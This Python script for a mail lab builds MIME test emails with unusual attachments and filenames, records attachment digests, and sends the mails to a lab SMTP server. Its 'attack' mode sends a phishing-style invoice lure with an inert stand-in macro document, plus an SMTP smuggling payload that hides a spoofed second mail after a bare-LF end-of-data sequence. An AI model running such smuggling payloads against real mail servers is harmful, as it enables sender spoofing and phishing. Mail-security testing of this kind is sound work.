#!/usr/bin/env python3
"""What Python's mail package makes and smtplib sends.

  send.py make FOLDER               files and mails, and saved.txt: digest and name of each attachment that is sent in clear
  send.py send|chunks|attack SERVER FOLDER
"""
import hashlib, random, smtplib, socket, sys
from email import encoders
from email.header import Header
from email.message import EmailMessage
from email.mime.application import MIMEApplication
from email.mime.base import MIMEBase
from email.mime.image import MIMEImage
from email.mime.message import MIMEMessage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.policy import SMTP

FROM, TO, DATE = "ann@lab.example", "bob@lab.example", "Tue, 01 Jul 2025 10:00:00 +0000"
rng = random.Random(17)
FILES = {
    "small.bin": bytes(range(256)),
    "picture.png": b"\x89PNG\r\n\x1a\n" + rng.randbytes(3000),
    "notes.txt": "A line of notes: grüße = good.\r\nTrailing blank \r\nand a line that is much longer than the 76 bytes that one of quoted-printable may have.\r\n".encode(),
    "large.zip": b"PK\x03\x04" + rng.randbytes(120_000),
    "one.txt": b"-- \nnot a delimiter\n--mid\n..dots\n.\n",
    "empty.dat": b"",
    "naïve plan.pdf": b"%PDF-1.7\n" + rng.randbytes(500),
    "заметки.bin": rng.randbytes(77),
    "a name so long that it is cut into pieces, each with a number of its own, as RFC 2231 has it.xlsx": b"PK\x03\x04" + rng.randbytes(900),
    "chunked.tar": rng.randbytes(40_000),
    "relayed.bin": rng.randbytes(20_000),
    # Stands in for a document with macros: the magic of its container, and the words that open one.
    "invoice.docm": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"Attribut\x00e VB_Nam\x00e = \x22Module1\x22 AutoOpen Shell" + bytes(200),
}


def mixed(subject, boundary, kind="mixed"):
    out = MIMEMultipart(kind, boundary=boundary)
    for name, value in (("From", FROM), ("To", TO), ("Subject", subject), ("Date", DATE), ("Message-ID", f"<{boundary}@lab.example>")):
        out[name] = value
    return out


def attached(name, form="plain", coding="base64"):
    part = MIMEBase("application", "octet-stream")
    part.set_payload(FILES[name])
    if coding == "base64": encoders.encode_base64(part)
    if coding == "quoted-printable": encoders.encode_quopri(part)
    if form == "plain": part.add_header("Content-Disposition", "attachment", filename=name)
    if form == "2231": part.add_header("Content-Disposition", "attachment", filename=("utf-8", "en", name))
    if form == "2047":  # as many programs have it, which RFC 2047 5 (3) forbids
        part["Content-Disposition"] = "attachment"
        part.set_param("name", Header(name, "utf-8").encode(), header="Content-Type")
    if form == "pieces":
        pieces = [name[i:i + 30] for i in range(0, len(name), 30)]
        part["Content-Disposition"] = "attachment;\r\n " + ";\r\n ".join(f'filename*{i}="{p}"' for i, p in enumerate(pieces))
    return part


def mails():
    nested = mixed("=?utf-8?Q?Gr=C3=BC=C3=9Fe?= of all =?iso-8859-1?B?5PbI?=", "outer")
    related = MIMEMultipart("related", boundary="outer-mid")
    alternative = MIMEMultipart("alternative", boundary="outer-mid-in")
    alternative.attach(MIMEText("See http://plain.lab.example/a and\nftp://no.lab.example\n"))
    alternative.attach(MIMEText('<a href="http://html.lab.example/?q=%C3%BC">ü</a>\n', "html", "utf-8"))
    related.attach(alternative)
    related.attach(MIMEImage(FILES["picture.png"], "png"))
    nested.attach(related)
    inner = mixed("inner", "inner")
    inner.attach(MIMEText("forwarded\n"))
    inner.attach(attached("small.bin"))
    nested.attach(MIMEMessage(inner))
    nested.attach(attached("notes.txt", coding="quoted-printable"))
    nested.attach(attached("empty.dat"))
    large = mixed("one of size", "large")
    large.attach(MIMEText("large\n"))
    large.attach(attached("large.zip"))
    names = mixed("names", "names")
    names.attach(attached("naïve plan.pdf", "2231"))
    names.attach(attached("заметки.bin", "2047"))
    names.attach(attached("a name so long that it is cut into pieces, each with a number of its own, as RFC 2231 has it.xlsx", "pieces"))
    plain = mixed("plain", "plain")
    plain.attach(MIMEText("plain\n"))
    plain.attach(attached("small.bin"))
    relayed = mixed("relayed", "relayed")
    relayed.attach(attached("relayed.bin"))
    return {"nested": nested, "large": large, "names": names, "plain": plain, "relayed": relayed}


def chunked():
    out = mixed("by BDAT", "chunked")
    out.attach(MIMEText("in chunks\n"))
    out.attach(attached("chunked.tar"))
    return out.as_bytes(policy=SMTP)


def macro():
    out = mixed("Overdue: invoice 4711", "macro")
    out.attach(MIMEText("Open http://pay.malware.lab.example/invoice and enable content.\n"))
    out.attach(attached("invoice.docm"))
    return out.as_bytes(policy=SMTP)


# Attachments as they cross the wire in clear, in the order of record.sh.
SENT = ["small.bin", "small.bin", "picture.png", "notes.txt", "picture.png", "small.bin", "notes.txt", "empty.dat", "large.zip",
        "naïve plan.pdf", "заметки.bin",
        "a name so long that it is cut into pieces, each with a number of its own, as RFC 2231 has it.xlsx", "relayed.bin",
        "chunked.tar", "invoice.docm"]


def talk(server, *said):
    """Says each without a look at what is answered; the last answer ends it."""
    with socket.create_connection((server, 25), 10) as peer:
        answers = peer.makefile("rb")
        answers.readline()
        for text in said:
            peer.sendall(text)
            line = answers.readline()
            while line[3:4] == b"-": line = answers.readline()
        while answers.readline(): pass


def main():
    action, folder = sys.argv[1], sys.argv[-1]
    if action == "make":
        for name, data in FILES.items(): open(f"{folder}/{name}", "wb").write(data)
        for name, mail in mails().items(): open(f"{folder}/{name}.eml", "wb").write(mail.as_bytes(policy=SMTP).replace(b"\r\n", b"\n"))
        with open(f"{folder}/saved.txt", "w") as out:
            for name in SENT: out.write(f"{hashlib.sha256(FILES[name]).hexdigest()} {name}\n")
        return
    server = sys.argv[2]
    if action == "send":
        with smtplib.SMTP(server, 25, "client.lab.example") as peer:
            for mail in ("nested", "large", "names"): peer.sendmail(FROM, [TO], mails()[mail].as_bytes(policy=SMTP))
            peer.docmd("RSET")
            peer.docmd("VRFY", "bob")
            peer.docmd("NOOP")
    elif action == "chunks":
        text = chunked()
        envelope = f"MAIL FROM:<{FROM}>\r\nRCPT TO:<{TO}>\r\n".encode()
        cut = (0, 1000, 30_000, len(text))
        bdat = b"".join(b"BDAT %d\r\n" % (end - begin) + text[begin:end] for begin, end in zip(cut, cut[1:]))
        # All in one: a text in three chunks and an empty last one, and the next mail behind it.
        talk(server, b"EHLO client.lab.example\r\n", envelope + bdat + b"BDAT 0 LAST\r\n" + envelope +
             b"BDAT 26 LAST\r\nSubject: second\r\n\r\nshort\r\n" + b"QUIT\r\n")
    elif action == "attack":
        with smtplib.SMTP(server, 25, "client.lab.example") as peer:
            peer.sendmail("billing@malware.lab.example", [TO], macro())
        # A server that takes LF . CRLF for the end sees two mails, one that does not sees one.
        talk(server, b"EHLO client.lab.example\r\n", b"MAIL FROM:<ann@lab.example>\r\n", b"RCPT TO:<bob@lab.example>\r\n", b"DATA\r\n",
             b"Subject: outer\r\n\r\nx\n.\r\nMAIL FROM:<admin@lab.example>\r\nRCPT TO:<bob@lab.example>\r\nDATA\r\n"
             b"Subject: smuggled\r\n\r\nx\r\n.\r\nQUIT\r\n")


main()
